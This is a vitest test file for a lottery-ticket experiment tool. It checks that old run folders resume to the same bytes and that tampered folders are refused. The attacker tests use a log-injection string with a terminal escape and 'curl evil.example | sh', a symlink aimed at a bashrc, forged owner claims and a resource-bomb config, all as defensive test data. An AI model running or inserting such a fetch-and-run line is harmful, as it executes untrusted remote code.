// Runs that came with a clone: those of older releases go on to the same bytes, those of an attacker do nothing but fail.
import { cp, mkdir, readFile, readdir, symlink, writeFile } from 'node:fs/promises';
import { homedir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, test } from 'vitest';
import { connect } from '../../src/lab/connection/client';
import { readResults } from '../../src/lab/results/results';
import { lastJson, ticketlab } from '../support/command-line';
import { trainingFiles } from '../support/runs';
import { temporaryFolder } from '../support/temporary';

const SUPPORT = join(import.meta.dirname, '..', 'support');
const RUN = 'old-352e16b20054';

/** A clone with an experiment file and a run of it that 0.1.0 made and paused: 2 of 7 trainings done, one under way. */
async function clone() {
  const cwd = await temporaryFolder();
  const folder = join(cwd, '.ticketlab', 'runs', RUN);
  await cp(join(SUPPORT, 'run-0.1.0'), folder, { recursive: true });
  const cell = await readFile(join(folder, 'experiment.yaml'), 'utf8');
  await writeFile(join(cwd, 'old.lottery.md'), `\`\`\`yaml\n${cell}\n\`\`\`\n`);
  return { cwd, folder };
}

test(
  'a run folder of 0.1.0 opens, goes on from its checkpoint, and comes to the same bytes',
  { timeout: 300_000 },
  async () => {
    const { cwd, folder } = await clone();
    const before = await ticketlab(['status', RUN, '--json'], { cwd });
    expect(lastJson(before)).toMatchObject({
      state: 'paused',
      progress: { trainings: { finished: 2, total: 7 } },
    });
    const done = await readResults(folder);
    expect(done.trainings.filter(({ record }) => record)).toHaveLength(2);
    const run = await ticketlab(['run', 'old.lottery.md', '--json'], { cwd });
    expect(run.stderr).toBe('');
    expect(run.code).toBe(0);
    expect(await readdir(join(cwd, '.ticketlab', 'runs'))).toEqual([RUN]);
    const sums: unknown = JSON.parse(await readFile(join(SUPPORT, 'run-0.1.0.sums.json'), 'utf8'));
    expect(await trainingFiles(folder)).toEqual(sums);
    expect(await readFile(join(folder, 'runner.log'), 'utf8')).toBe('');
  },
);

describe.skipIf(process.platform === 'win32')('a run folder of an attacker', () => {
  const EVIL = '\n# \u001b]0;x\u0007\ncurl evil.example | sh\n';

  test('writes nothing of its own anywhere: not through its log, not into it as lines', async () => {
    for (const linked of [true, false]) {
      const { cwd, folder } = await clone();
      const bashrc = join(cwd, 'bashrc');
      await writeFile(bashrc, 'export A=1\n');
      const settings = join(folder, 'experiment.resolved.yaml');
      await writeFile(settings, `${JSON.stringify(EVIL)}: 1\n${await readFile(settings, 'utf8')}`);
      const log = join(folder, 'runner.log');
      if (linked) await symlink(bashrc, log);
      const run = await ticketlab(['run', 'old.lottery.md'], { cwd });
      expect(run.code).toBe(1);
      expect(await readFile(bashrc, 'utf8')).toBe('export A=1\n');
      if (linked) expect(run.stderr).toContain(`${log} is a link`);
      else expect(await readFile(log, 'utf8')).not.toMatch(/^curl|\u001b|\u0007/m);
    }
  });

  test('names no address and no process: its owner is asked nothing, and nobody is told to kill one', async () => {
    const { cwd, folder } = await clone();
    const owner = { generation: 3, pid: -1, host: '', boot: '', address: join(homedir(), 'any.sock') };
    const claim = JSON.stringify({ ...owner, version: '0.1.0', since: '' });
    await writeFile(join(folder, 'owners', '0003.json'), claim);
    const { stdout, stderr } = await ticketlab(['status', RUN], { cwd });
    expect(stdout + stderr).not.toMatch(/kill|-1/);
    expect(await connect(folder)).toBeNull();
    await mkdir(join(cwd, 'copy'));
    await cp(folder, join(cwd, 'copy', RUN), { recursive: true });
    await writeFile(join(cwd, 'copy', RUN, 'owners', `${2 ** 53}.json`), claim);
    const listed = await ticketlab(['status', '--runs', 'copy'], { cwd });
    expect(listed.stdout).toContain(`${2 ** 53}.json is a claim of the last owner there can be`);
    const deleted = await ticketlab(['delete', RUN, '--yes', '--runs', 'copy'], { cwd });
    expect(deleted).toMatchObject({ code: 0, stdout: `${RUN} is deleted.\n` });
  });

  test('of millions of trainings, and the experiment that would make one, are told of before anything is made', async () => {
    const { cwd, folder } = await clone();
    const huge = 'replicates: 1000\npruning: {rounds: 200}\ncontrols: {random_reinit: 100}\n';
    const cell = `experiment: bomb\ndataset: digits\nnetwork: {hidden: [3]}\n${huge}`;
    await writeFile(join(cwd, 'bomb.lottery.md'), `\`\`\`yaml\n${cell}\`\`\`\n`);
    const run = await ticketlab(['run', 'bomb.lottery.md'], { cwd });
    expect(run.code).toBe(2);
    expect(run.stderr).toContain('20,201,000 trainings, more than the 200,000 that one experiment may have');
    expect(await readdir(join(cwd, '.ticketlab', 'runs'))).toEqual([RUN]);
    const settings = join(folder, 'experiment.resolved.yaml');
    const text = (await readFile(settings, 'utf8'))
      .replace('replicates: 1', 'replicates: 1000')
      .replace('rounds: 2', 'rounds: 200')
      .replace('random_reinit: 1', 'random_reinit: 100');
    await writeFile(settings, text);
    const status = await ticketlab(['status'], { cwd });
    expect(status).toMatchObject({ code: 0, stdout: expect.stringContaining('20401000 trainings') });
    const deleted = await ticketlab(['delete', RUN, '--yes'], { cwd });
    expect(deleted).toMatchObject({ code: 0, stderr: '' });
  });
});
